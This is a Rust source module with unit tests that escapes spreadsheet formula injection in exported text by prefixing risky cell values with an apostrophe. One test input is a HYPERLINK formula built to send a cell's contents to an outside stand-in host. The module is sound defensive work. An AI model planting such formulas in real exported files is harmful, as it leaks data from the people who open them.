//! A text as a spreadsheet's cell. Names come from partners and their portals, and a spreadsheet runs what begins like a formula
//! in a file that it was given: such a text gets an apostrophe in front, which spreadsheets read as "this is text".
//!
//! Numbers that the program writes itself do not pass through here: -3 stays a number.

use std::borrow::Cow;

/// What a spreadsheet may take for a formula's beginning, the wide forms of East Asian keyboards included.
const RUNS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const QUOTE: char = '\'';

/// Whether a text begins like a formula, however many apostrophes stand before it.
fn runs(text: &str) -> bool {
    text.trim_start_matches(QUOTE).starts_with(RUNS)
}

/// The text for a file: what a spreadsheet would run gets an apostrophe in front.
pub(super) fn quoted(text: &str) -> Cow<'_, str> {
    if runs(text) { Cow::Owned(format!("{QUOTE}{text}")) } else { Cow::Borrowed(text) }
}

/// The text that [`quoted`] was given.
pub(super) fn unquoted(cell: &str) -> &str {
    cell.strip_prefix(QUOTE).filter(|text| runs(text)).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_quoted_and_comes_back() {
        for text in ["=HYPERLINK(\"http://x/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "＝1"]
        {
            let cell = quoted(text);
            assert_eq!(cell, format!("'{text}"));
            assert_eq!(unquoted(&cell), text);
        }
    }

    #[test]
    fn other_texts_stay_as_they_are() {
        for text in ["", "Fjord Outdoor", "–", "'s-Hertogenbosch", "a=b", "'"] {
            assert_eq!(quoted(text), text);
            assert_eq!(unquoted(text), text);
        }
    }
}
